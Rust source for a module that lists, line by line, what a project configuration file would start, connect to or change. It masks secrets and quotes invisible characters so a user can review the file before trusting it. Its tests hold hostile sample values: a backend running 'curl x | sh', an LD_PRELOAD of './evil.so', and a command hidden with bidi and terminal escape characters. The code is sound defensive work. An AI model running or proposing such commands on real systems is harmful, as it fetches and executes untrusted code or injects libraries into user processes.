//! Describes what a project file would start, open or change, with complete commands.
//!
//! Variables are shown unexpanded, and values that look like secrets are masked.

use scrubjay_config::mask::mask;
use scrubjay_config::{FileTree, Node, Value};

/// Describes each effect of a file in a line.
pub(super) fn of(tree: &FileTree) -> Vec<String> {
    let mut lines = Vec::new();
    // The keys that a file loses without trust, by the same function, so that none is missing here.
    for (key, node) in tree.guarded() {
        match key {
            "backends" => backends(&node, &mut lines),
            "recorder.rules" => rules(&node, &mut lines),
            "serve.http" => lines.push(format!("listen on {}", value(key, &node))),
            _ => lines.push(format!("set {key} to {}", value(key, &node))),
        }
    }
    lines
}

fn backends(node: &Node, lines: &mut Vec<String>) {
    let Value::List(items) = &node.value else { return };
    if items.is_empty() {
        lines.push("have no backends".to_owned());
    }
    for item in items {
        let id = item.get("id").map(|id| value("id", id)).unwrap_or_default();
        if let Some(url) = item.get("url") {
            lines.push(format!("connect to {} as {id}", value("url", url)));
            named(item.get("headers"), "  with the header", lines);
            continue;
        }
        let args = item.get("args").map(list).unwrap_or_default();
        let command = item.get("command").map(written).unwrap_or_default();
        let command: Vec<String> = std::iter::once(command).chain(args).map(|word| quoted(&word)).collect();
        lines.push(format!("start {} as {id}", command.join(" ")));
        named(item.get("env"), "  with the variable", lines);
        if let Some(inherit) = item.get("inheritEnv") {
            match &inherit.value {
                Value::List(_) => {
                    lines.push(format!("  with your variables {}", list(inherit).join(", ")));
                }
                _ if written(inherit).eq_ignore_ascii_case("true") => {
                    lines.push("  with all of your variables".to_owned());
                }
                _ => {}
            }
        }
    }
}

fn rules(node: &Node, lines: &mut Vec<String>) {
    let Value::List(items) = &node.value else { return };
    if items.is_empty() {
        lines.push("have no rules for messages".to_owned());
    }
    for item in items {
        let word = |key: &str| quoted(&item.get(key).map(written).unwrap_or_default());
        lines.push(format!("{} messages by the rule {}", word("action"), word("name")));
    }
}

fn named(node: Option<&Node>, what: &str, lines: &mut Vec<String>) {
    let Some(Value::Map(entries)) = node.map(|node| &node.value) else { return };
    for (name, node) in entries {
        lines.push(format!("{what} {name} = {}", value(name, node)));
    }
}

/// Returns a value as it is written, masked if it looks like a secret. A reference to a variable is not a secret.
fn value(name: &str, node: &Node) -> String {
    let text = match &node.value {
        Value::List(_) => list(node).join(", "),
        _ => written(node),
    };
    let reference = text.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    if reference.is_some_and(|name| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')) {
        return text;
    }
    quoted(&mask(name, &text).shown)
}

fn list(node: &Node) -> Vec<String> {
    let Value::List(items) = &node.value else { return Vec::new() };
    items.iter().map(written).collect()
}

fn written(node: &Node) -> String {
    match &node.value {
        Value::Scalar(scalar) => scalar.text.clone(),
        Value::Null => String::new(),
        Value::List(_) => format!("[{}]", list(node).join(", ")),
        Value::Map(entries) => {
            let entries =
                entries.iter().map(|(name, node)| format!("{name}: {}", mask(name, &written(node)).shown));
            format!("{{{}}}", entries.collect::<Vec<_>>().join(", "))
        }
    }
}

/// Quotes a word if it has characters that are invisible or look like the end of the word.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./:@=,+%*${}[]?&".contains(c);
    if !word.is_empty() && word.chars().all(plain) { word.to_owned() } else { format!("{word:?}") }
}

#[cfg(test)]
mod tests {
    use super::*;
    use scrubjay_config::project;

    fn effects(text: &str) -> Vec<String> {
        let directory = tempfile::tempdir().unwrap();
        std::fs::write(directory.path().join(project::FILE_NAME), text).unwrap();
        of(&project::find(directory.path()).unwrap().parse(&mut Vec::new()).unwrap())
    }

    #[test]
    fn every_effect_of_a_file_is_shown() {
        let shown = effects(
            "log_level: debug\ndata: ./here\nbackends:\n\
             \x20 - { id: sh, type: stdio, command: sh, args: [-c, 'curl x | sh', ''], inheritEnv: true,\n\
             \x20     env: { API_KEY: abcdef, TOKEN: '${GITHUB_TOKEN}', PORT: 80, LD_PRELOAD: ./evil.so } }\n\
             \x20 - { id: far, type: http, url: 'https://far.example/mcp', headers: { Authorization: Bearer x } }\n\
             \x20 - { id: named, type: stdio, command: x, inheritEnv: [A, B] }\n\
             serve: { http: '0.0.0.0:80', auth_token: abc, allowed_hosts: [a.example], naming: always }\n\
             recorder: { rules: [{ name: canned, action: mock, result: {} }] }\n",
        );
        let expected = [
            "set log_level to debug",
            "set data to ./here",
            "listen on 0.0.0.0:80",
            "set serve.auth_token to ***",
            "set serve.allowed_hosts to a.example",
            "set serve.naming to always",
            "mock messages by the rule canned",
            "start sh -c \"curl x | sh\" \"\" as sh",
            "  with the variable API_KEY = ***",
            "  with the variable TOKEN = ${GITHUB_TOKEN}",
            "  with the variable PORT = 80",
            "  with the variable LD_PRELOAD = ./evil.so",
            "  with all of your variables",
            "connect to https://far.example/mcp as far",
            "  with the header Authorization = ***",
            "start x as named",
            "  with your variables A, B",
        ];
        assert_eq!(shown, expected);
    }

    #[test]
    fn a_harmless_file_has_no_effects() {
        assert!(effects("records: { stale_after: 3 }\nrouter: { shortlist: 5 }\n").is_empty());
    }

    #[test]
    fn effects_on_recording_are_shown_in_full() {
        let shown = effects(
            "recorder: { enabled: false, strategy: { kind: performance, threshold: 9s },\n\
             \x20 sampling: { rules: [{ methods: [a, b], rate: 0 }] } }",
        );
        let expected = [
            "set recorder.enabled to false",
            "set recorder.sampling.rules to \"{methods: [a, b], rate: 0}\"",
            "set recorder.strategy to \"{kind: performance, threshold: 9s}\"",
        ];
        assert_eq!(shown, expected);
    }

    #[test]
    fn invisible_characters_are_shown() {
        let shown = effects("backends: [{ id: a, type: stdio, command: \"sh\\u202e\\e[8m\" }]");
        assert_eq!(shown, ["start \"sh\\u{202e}\\u{1b}[8m\" as a"]);
    }
}
